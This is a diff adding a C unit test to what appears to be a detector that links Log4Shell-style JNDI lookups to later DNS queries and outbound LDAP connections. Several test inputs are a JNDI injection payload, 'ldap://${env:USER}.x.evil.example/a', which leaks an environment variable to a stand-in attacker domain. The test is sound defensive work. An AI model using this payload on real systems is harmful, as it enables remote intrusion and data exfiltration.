@@ -750,6 +750,58 @@ static void values_come_back_in_a_fetch(void **state)
     restart(t);
 }
 
+static unsigned n_doubts(const struct incident *i)
+{
+    unsigned n = 0;
+
+    for (const struct doubt *d = i->doubts; d; d = d->next)
+        n++;
+    return incident_doubted(i) ? n : 0;
+}
+
+/* The question of a resolver, and the lookups of three victims, in every order. */
+static void a_resolver_asks_for_one_of_them(void **state)
+{
+    struct setting *t = *state;
+
+    for (unsigned at = 0; at < 4; at++) {
+        for (unsigned k = 0; k < 4; k++)
+            if (k == at)
+                dns(t, 53, "tomcat.x.evil.example", nobody, T0 + 9 * S);
+            else
+                lookup(t, (uint8_t)(k < at ? k + 1 : k), "ldap://${env:USER}.x.evil.example/a", T0 + k * S);
+        correlate_finish(t->correlate);
+        assert_int_equal(n_doubts(t->incident), 2);
+        assert_int_equal(t->incident->confidence, at == 3 ? 20 : at == 2 ? 30 : 60);
+        for (const char *told = t->told; *told; told += 9) /* one of them, however often */
+            assert_memory_equal(told, t->told, 3);
+        restart(t);
+    }
+    /* Who is seen to ask, or to call, is in no doubt. */
+    lookup(t, 1, "ldap://${env:USER}.x.evil.example/a", T0);
+    lookup(t, 2, "ldap://${env:USER}.x.evil.example/a", T0);
+    dns(t, 53, "tomcat.x.evil.example", out(9), T0 + S);
+    assert_string_equal(t->told, "v2 ");
+    assert_int_equal(n_doubts(t->incident), 1);
+    connection(t, 2, out(9), 389, CONNECTION_REFUSED, "", T0 + 2 * S);
+    correlate_finish(t->correlate);
+    assert_int_equal(n_doubts(t->incident), 0);
+    told_is(t, "v2 v2 ");
+    /* The victim's own question was told; its resolver's is the same one. */
+    lookup(t, 1, "ldap://${env:USER}.x.evil.example/a", T0);
+    lookup(t, 2, "ldap://${env:USER}.x.evil.example/a", T0);
+    dns(t, 1, "tomcat.x.evil.example", nobody, T0 + S);
+    dns(t, 53, "tomcat.x.evil.example", nobody, T0 + S);
+    told_is(t, "v1 ");
+    /* Another payload's name, and a lookup that came later. */
+    lookup(t, 1, "ldap://${env:USER}.x.evil.example/a", T0);
+    lookup(t, 2, "ldap://${env:USER}.y.evil.example/a", T0);
+    lookup(t, 3, "ldap://${env:USER}.x.evil.example/a", T0 + 5 * S);
+    dns(t, 53, "tomcat.x.evil.example", nobody, T0 + S);
+    assert_int_equal(n_doubts(t->incident), 0);
+    told_is(t, "v1 ");
+}
+
 static void a_window_ends(void **state)
 {
     struct setting *t = *state;
@@ -814,6 +866,7 @@ int main(void)
         with_story(a_second_victim_is_linked_to_the_first),
         with_story(values_come_back_in_the_callback),
         with_story(values_come_back_in_a_fetch),
+        with_story(a_resolver_asks_for_one_of_them),
         with_story(a_window_ends),
         with_story(memory_stays_below_its_ceiling),
     };
